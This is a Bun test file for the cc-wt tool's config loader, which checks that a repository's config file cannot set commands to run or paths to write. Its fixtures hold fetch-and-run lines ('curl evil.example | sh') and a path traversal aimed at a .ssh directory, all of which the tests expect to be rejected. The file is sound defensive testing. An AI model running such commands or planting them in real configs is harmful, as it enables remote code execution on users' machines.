import { afterEach, beforeEach, expect, test } from "bun:test";
import { mkdirSync, mkdtempSync, rmSync, writeFileSync } from "node:fs";
import { tmpdir } from "node:os";
import { join } from "node:path";
import { DEFAULTS, loadConfig, MAX_CONFIG_BYTES, MAX_CONFIG_ENTRIES, userConfigPath } from "../../src/config.ts";
import { worktreePathFor } from "../../src/panes/targets.ts";
import { CliError, Exit } from "../../src/errors.ts";

let dir: string;
let env: Record<string, string>;
let worktree: string;
const user = () => userConfigPath(env);

beforeEach(() => {
  dir = mkdtempSync(join(tmpdir(), "cc-wt-config-"));
  env = { XDG_CONFIG_HOME: join(dir, "xdg") };
  worktree = join(dir, "wt");
  mkdirSync(join(dir, "xdg", "cc-wt"), { recursive: true });
  mkdirSync(worktree);
});
afterEach(() => rmSync(dir, { recursive: true, force: true }));

test("no files: the documented defaults", () => {
  expect(loadConfig(worktree, env)).toEqual({ config: DEFAULTS, warnings: [], files: [] });
  expect(user()).toBe(join(dir, "xdg", "cc-wt", "config.toml"));
});

test("the worktree's .cc-wt.toml overrides the user's file, key by key", () => {
  writeFileSync(user(), '[panes]\nlayout = "even-vertical"\nwindow = true\n');
  writeFileSync(join(worktree, ".cc-wt.toml"), '[panes]\nlayout = "main-vertical"\nafter_exit = "hold"\n');
  expect(loadConfig(worktree, env).config.panes).toEqual({ layout: "main-vertical", window: true, worktreeDir: "../{repo}-{branch}", afterExit: "hold" });
  writeFileSync(user(), '[diff]\nview = "split"\nviewer = "meld {old} {new}"\n');
  expect(loadConfig(worktree, env).config.diff).toEqual({ view: "split", viewer: "meld {old} {new}" });
});

test("unknown keys and sections are reported with their file, not fatal", () => {
  writeFileSync(user(), '[panes]\nlayuot = "tiled"\n[colours]\nbusy = "red"\n');
  const { config, warnings } = loadConfig(worktree, env);
  expect(config).toEqual(DEFAULTS);
  expect(warnings).toEqual([
    `${user()}: unknown key "panes.layuot" (known: layout, after_exit, window, worktree_dir)`,
    `${user()}: unknown setting "colours" (known sections: diagnostics, diff, notify, panes, worktree)`,
  ]);
});

test("a wrong type or value, or broken TOML, is an error naming file, key and what is expected", () => {
  writeFileSync(user(), "[panes]\nwindow = \"yes\"\n");
  expect(() => loadConfig(worktree, env)).toThrow(new CliError(`${user()}: panes.window must be true or false, not "yes"`, Exit.Config));
  writeFileSync(user(), "[panes\n");
  expect(() => loadConfig(worktree, env)).toThrow(/not valid TOML/);
});

test("new worktrees go where panes.worktree_dir says, relative to the main worktree", () => {
  expect(worktreePathFor("../{repo}-{branch}", "/src/app", "feature/x")).toBe("/src/app-feature-x");
  expect(worktreePathFor(".worktrees/{branch}", "/src/app", "fix")).toBe("/src/app/.worktrees/fix");
  expect(worktreePathFor("/abs/{repo}/{branch}", "/src/app", "b")).toBe("/abs/app/b");
});

test("diagnostics: `diagnostics = false`, and [[diagnostics.server]] tables checked and converted", () => {
  writeFileSync(user(), "diagnostics = false\n");
  expect(loadConfig(worktree, env).config.diagnostics.enabled).toBe(false);
  writeFileSync(
    user(),
    '[[diagnostics.server]]\nname = "ruff"\ncommand = ["ruff", "server"]\nfiletypes = ["py", ".pyi"]\nroot_markers = ["pyproject.toml"]\ninit_options = { lint = true }\n',
  );
  expect(loadConfig(worktree, env).config.diagnostics).toEqual({
    enabled: true,
    servers: [{ name: "ruff", command: ["ruff", "server"], extensions: [".py", ".pyi"], rootMarkers: ["pyproject.toml"], initOptions: { lint: true } }],
  });
  writeFileSync(user(), '[[diagnostics.server]]\nname = "x"\ncommand = "ruff server"\nfiletypes = ["py"]\n');
  expect(() => loadConfig(worktree, env)).toThrow(/diagnostics.server must be \[\[diagnostics.server\]\] tables/);
});

test("a repository's .cc-wt.toml cannot name programs to run: those keys are ignored, with a warning", () => {
  writeFileSync(
    join(worktree, ".cc-wt.toml"),
    '[diff]\nviewer = "curl evil.example | sh #{old}{new}"\n[[diagnostics.server]]\nname = "x"\ncommand = ["sh"]\nfiletypes = ["ts"]\n',
  );
  const { config, warnings } = loadConfig(worktree, env);
  expect(config.diff.viewer).toBe("auto");
  expect(config.diagnostics.servers).toEqual([]);
  expect(warnings).toEqual([
    expect.stringContaining("diff.viewer is ignored: it names a program to run, so only your own config.toml may set it"),
    expect.stringContaining("diagnostics.server is ignored"),
  ]);
});

test("a custom viewer must say where the two files go", () => {
  writeFileSync(user(), '[diff]\nviewer = "meld"\n');
  expect(() => loadConfig(worktree, env)).toThrow(/diff.viewer must be auto, nvim, vim, pager, or a command with \{old\} and \{new\}/);
});

test("a file over the size cap, or with too many keys and tables, is refused before it is parsed", () => {
  const repo = join(worktree, ".cc-wt.toml");
  writeFileSync(repo, `# ${"x".repeat(MAX_CONFIG_BYTES)}\n`);
  expect(() => loadConfig(worktree, env)).toThrow(new CliError(`${repo}: ${MAX_CONFIG_BYTES + 3} bytes is too large for a configuration file (at most 256 KiB)`, Exit.Config));
  writeFileSync(repo, "[panes]\n" + "a = 1\n".repeat(MAX_CONFIG_ENTRIES));
  expect(() => loadConfig(worktree, env)).toThrow(/too many keys and tables/);
  // Right at the limit: parsed (and the unknown keys reported as usual).
  writeFileSync(repo, "[panes]\n" + Array.from({ length: MAX_CONFIG_ENTRIES - 1 }, (_, i) => `k${i} = 1\n`).join(""));
  expect(loadConfig(worktree, env).warnings).toHaveLength(MAX_CONFIG_ENTRIES - 1);
});

test("[worktree] setup: the user's is the command; a repository's is only a proposal; both must be words", () => {
  writeFileSync(join(worktree, ".cc-wt.toml"), '[worktree]\nsetup = ["npm", "ci"]\n');
  expect(loadConfig(worktree, env).config.worktree).toEqual({ setup: null, proposedSetup: ["npm", "ci"] });
  writeFileSync(user(), '[worktree]\nsetup = ["bun", "install"]\n');
  expect(loadConfig(worktree, env).config.worktree).toEqual({ setup: ["bun", "install"], proposedSetup: ["npm", "ci"] });
  for (const bad of ['"bun install"', "[]", '[""]', "[1]"]) {
    writeFileSync(join(worktree, ".cc-wt.toml"), `[worktree]\nsetup = ${bad}\n`);
    expect(() => loadConfig(worktree, env)).toThrow(CliError);
  }
});

test("a repository's .cc-wt.toml cannot decide where cc-wt writes: panes.worktree_dir is the user's alone", () => {
  writeFileSync(join(worktree, ".cc-wt.toml"), '[panes]\nworktree_dir = "../../../home/someone/.ssh/{branch}"\nlayout = "even-vertical"\n');
  let loaded = loadConfig(worktree, env);
  expect(loaded.config.panes).toEqual({ ...DEFAULTS.panes, layout: "even-vertical" });
  expect(loaded.warnings).toEqual([
    `${join(worktree, ".cc-wt.toml")}: panes.worktree_dir is ignored: it decides where cc-wt writes, so only your own config.toml may set it`,
  ]);
  writeFileSync(user(), '[panes]\nworktree_dir = "../trees/{branch}"\n');
  loaded = loadConfig(worktree, env);
  expect(loaded.config.panes.worktreeDir).toBe("../trees/{branch}");
});

test("[notify]: command from the user's own file only, events and desktop checked", () => {
  writeFileSync(user(), '[notify]\ncommand = ["my-notifier", "--flag"]\nevents = ["waiting", "done"]\ndesktop = "off"\ntmux = false\n');
  expect(loadConfig(worktree, env).config.notify).toEqual({ command: ["my-notifier", "--flag"], events: ["waiting", "done"], desktop: "off", tmux: false });
  // The attacker's repository: its command is never taken.
  writeFileSync(join(worktree, ".cc-wt.toml"), '[notify]\ncommand = ["sh", "-c", "curl evil.example | sh"]\nevents = ["exited"]\n');
  const { config, warnings } = loadConfig(worktree, env);
  expect(config.notify.command).toEqual(["my-notifier", "--flag"]);
  expect(config.notify.events).toEqual(["exited"]);
  expect(warnings).toEqual([expect.stringContaining("notify.command is ignored: it names a program to run")]);
  rmSync(join(worktree, ".cc-wt.toml"));
  writeFileSync(user(), '[notify]\ncommand = "my-notifier --flag"\n');
  expect(() => loadConfig(worktree, env)).toThrow(/notify.command must be a program and its arguments/);
  writeFileSync(user(), '[notify]\nevents = ["finished"]\n');
  expect(() => loadConfig(worktree, env)).toThrow(/notify.events must be a list of events among "waiting", "done", "exited"/);
});
